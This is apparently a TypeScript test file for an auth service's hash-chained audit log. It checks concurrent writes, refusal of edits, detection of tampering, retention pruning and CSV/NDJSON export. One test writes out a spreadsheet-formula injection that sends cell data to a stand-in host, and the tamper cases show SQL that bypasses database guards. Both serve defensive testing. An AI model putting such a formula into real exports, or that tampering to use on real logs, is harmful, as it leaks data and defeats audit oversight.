import type { Schemas } from "@workspace/contracts";
import type { Database, Queryable } from "@workspace/storage";
import { expect, test } from "vitest";
import { appendAudit } from "../src/audit/append-audit.ts";
import { system } from "../src/audit/audit-line.ts";
import { removeOldLines } from "../src/audit/retention.ts";
import { loadAuthConfig } from "../src/config.ts";
import { signInOwner } from "./browser.ts";
import type { TestBrowser } from "./browser.ts";
import { internalToken, startAuth } from "./harness.ts";
import type { TestAuth } from "./harness.ts";

type Line = Schemas["auth"]["AuditLine"];

const audit = "/api/auth/audit";

async function lines(by: TestBrowser, query = ""): Promise<Line[]> {
  return (await by.send(`${audit}?limit=200${query}`)).json["data"] as Line[];
}

async function verify(by: TestBrowser) {
  return (await by.send(`${audit}/verify`)).json;
}

function note(sql: Queryable, action: string, details: Record<string, string> = {}) {
  const target = { kind: "test", id: action };
  return appendAudit(sql, system, { action, organisationId: null, target, details });
}

async function write(auth: TestAuth, count: number): Promise<void> {
  for (let index = 1; index <= count; index++)
    await auth.sql.begin((tx) => note(tx, `test.line-${"abcdefghij"[index % 10]}`));
}

/** As somebody would who owns the database and has taken every guard away. */
async function tamper(sql: Database, act: (tx: Queryable) => Promise<unknown>): Promise<void> {
  await sql.begin(async (tx) => {
    await tx`set local session_replication_role = replica`;
    await act(tx);
  });
}

test("fifty writers at once, over two replicas, make one chain", async () => {
  await using one = await startAuth();
  await using two = await startAuth({}, { url: one.databaseUrl });
  const owner = await signInOwner(one);
  const writers = Array.from({ length: 50 }, async (_, index) => {
    for (let round = 0; round < 4; round++)
      await (index % 2 ? one : two).sql.begin((tx) => note(tx, "test.write"));
  });
  await Promise.all(writers);
  expect((await lines(owner, "&action=test.write")).length).toBe(200);
  expect(await verify(owner)).toMatchObject({ intact: true, lines: 203, fault: null });
});

test("nobody changes, removes or empties the log, not even its owner", async () => {
  await using auth = await startAuth();
  await write(auth, 3);
  const { sql } = auth;
  const refused = /only ever added to|retention only|only moves on/;
  await expect(sql`update audit_log set action = 'x'`).rejects.toThrow(refused);
  await expect(sql`delete from audit_log`).rejects.toThrow(refused);
  await expect(sql`truncate audit_log`).rejects.toThrow(refused);
  await expect(sql`delete from audit_head`).rejects.toThrow(refused);
  await expect(sql`update audit_anchor set sequence = 3`).rejects.toThrow(refused);
  await expect(sql`truncate audit_anchor`).rejects.toThrow(refused);
  const asTenant = sql.begin(async (tx) => {
    await tx`set local role workspace_tenant`;
    await tx`insert into audit_log select * from audit_log`;
  });
  await expect(asTenant).rejects.toThrow(/permission denied/);
});

const places = `sequence, at, action, outcome, actor_kind, user_id, key_id, session_id,
  organisation_id, target_kind, target_id, address, user_agent, details, previous_hash, hash`;

test.each<[string, (tx: Queryable) => Promise<unknown>, { sequence: number; kind: string }]>([
  [
    "changed",
    (tx) => tx`update audit_log set user_id = 'usr_other' where sequence = 5`,
    { sequence: 5, kind: "changed" },
  ],
  [
    "moved to another time",
    (tx) => tx`update audit_log set at = at - interval '1 day' where sequence = 5`,
    { sequence: 5, kind: "changed" },
  ],
  [
    "cut in another place: the same text in other columns",
    (tx) => tx`update audit_log set target_id = null, address = target_id where sequence = 5`,
    { sequence: 5, kind: "changed" },
  ],
  [
    "changed, with a hash that fits",
    (tx) =>
      tx`with line as (
        update audit_log set action = 'test.other' where sequence = 5 returning *)
      select 1 from line`.then(
        () => tx`update audit_log l set hash = sha256(previous_hash || audit_canonical(l))
        where sequence = 5`,
      ),
    { sequence: 6, kind: "broken" },
  ],
  [
    "deleted",
    (tx) => tx`delete from audit_log where sequence = 5`,
    { sequence: 5, kind: "broken" },
  ],
  [
    "deleted at the beginning",
    (tx) => tx`delete from audit_log where sequence = 1`,
    { sequence: 1, kind: "broken" },
  ],
  [
    "deleted at the end",
    (tx) => tx`delete from audit_log where sequence > 8`,
    { sequence: 9, kind: "end" },
  ],
  [
    "reordered",
    (tx) =>
      tx`update audit_log set sequence = -sequence where sequence in (5, 6)`.then(
        () => tx`update audit_log set sequence = 11 + sequence where sequence < 0`,
      ),
    { sequence: 5, kind: "broken" },
  ],
  [
    "inserted",
    (tx) =>
      tx`update audit_log set sequence = sequence + 1000 where sequence > 5`
        .then(() => tx`update audit_log set sequence = sequence - 999 where sequence > 5`)
        .then(
          () => tx`insert into audit_log (${tx.unsafe(places)})
          select 6, ${tx.unsafe(places.slice("sequence, ".length))} from audit_log where sequence = 5`,
        ),
    { sequence: 6, kind: "broken" },
  ],
  [
    "inserted at the end",
    (tx) => tx`insert into audit_log (${tx.unsafe(places)}) select 11, at, action, outcome,
        actor_kind, user_id, key_id, session_id, organisation_id, target_kind, target_id, address,
        user_agent, details, hash, sha256(hash || audit_canonical(row(11, at, action, outcome,
          actor_kind, user_id, key_id, session_id, organisation_id, target_kind, target_id,
          address, user_agent, details, hash, null)::audit_log))
      from audit_log where sequence = 10`,
    { sequence: 12, kind: "end" },
  ],
  [
    "cut off, the beginning moved as if by retention",
    (tx) =>
      tx`update audit_anchor a set sequence = l.sequence, hash = l.hash
        from audit_log l where l.sequence = 4`.then(
        () => tx`delete from audit_log where sequence <= 4`,
      ),
    { sequence: 4, kind: "anchor" },
  ],
])("a line that was %s is found", async (_, act, fault) => {
  await using auth = await startAuth();
  const owner = await signInOwner(auth);
  await write(auth, 7);
  expect(await verify(owner)).toMatchObject({ intact: true, lines: 10, fault: null });
  await tamper(auth.sql, act);
  expect(await verify(owner)).toMatchObject({ intact: false, fault });
});

test("retention removes old lines, notes where the chain begins now, and it still holds", async () => {
  await using auth = await startAuth();
  const owner = await signInOwner(auth);
  await write(auth, 20);
  await tamper(auth.sql, async (tx) => {
    await tx`update audit_log set at = at - interval '100 days' where sequence <= 15`;
    // Written anew from the first on, as if it had been so long ago.
    await tx`do $$
      declare line audit_log; before bytea := (select hash from audit_anchor);
      begin
        for line in select * from audit_log order by sequence loop
          line.previous_hash := before;
          before := sha256(before || audit_canonical(line));
          update audit_log set previous_hash = line.previous_hash, hash = before
            where sequence = line.sequence;
        end loop;
        update audit_head set hash = before;
      end $$`;
  });
  expect(await verify(owner)).toMatchObject({ intact: true, lines: 23 });
  // Without a bound lines are kept for ever, and within it as well.
  const { AUDIT_RETENTION } = loadAuthConfig({
    DATABASE_URL: auth.databaseUrl,
    WORKSPACE_INTERNAL_TOKEN: internalToken,
    ...auth.environment,
  });
  for (const keepMs of [AUDIT_RETENTION, 366 * 86_400_000]) {
    await removeOldLines(auth.sql, keepMs);
    expect(await verify(owner)).toMatchObject({ lines: 23, anchor: { sequence: 0 } });
  }
  await removeOldLines(auth.sql, 90 * 86_400_000);
  expect(await verify(owner)).toMatchObject({
    intact: true,
    lines: 9,
    anchor: { sequence: 15 },
    head: { sequence: 24 },
  });
  const [pruned] = await lines(owner, "&action=audit.prune");
  expect(pruned).toMatchObject({
    actor: { kind: "system" },
    details: { removed: 15, through: 15 },
  });
  await removeOldLines(auth.sql, 90 * 86_400_000);
  expect(await verify(owner)).toMatchObject({ intact: true, lines: 9 });
});

test("the export holds every line, and no cell that a spreadsheet would run", async () => {
  await using auth = await startAuth();
  const owner = await signInOwner(auth);
  await write(auth, 1_010);
  const formula = `=HYPERLINK("http://evil.example/"&A1,"x")`;
  await owner.send("/api/auth/keys", { json: { name: "k" }, headers: { "user-agent": formula } });

  const ndjson = await owner.send(`${audit}/export`);
  expect(ndjson.headers.get("content-type")).toContain("application/x-ndjson");
  const exported = ndjson.text
    .trimEnd()
    .split("\n")
    .map((text) => JSON.parse(text) as Line);
  expect(exported.map(({ sequence }) => sequence)).toEqual(exported.map((_, index) => index + 1));
  expect(exported).toHaveLength(1_015);
  expect(exported.at(-2)).toMatchObject({ action: "key.create", user_agent: formula });

  const csv = await owner.send(`${audit}/export?format=csv&action=key`);
  expect(csv.headers.get("content-type")).toContain("text/csv");
  expect(csv.headers.get("content-disposition")).toContain('filename="audit.csv"');
  expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/""&A1,""x"")"`);
  expect(csv.text).not.toMatch(/(^|,|")=HYPERLINK/m);
  expect(await lines(owner, "&action=audit.export")).toHaveLength(2);
  // The hashes of an export can be checked by whoever has it.
  for (const [index, line] of exported.slice(1).entries())
    expect(line.previous_hash).toBe(exported[index]?.hash);
});
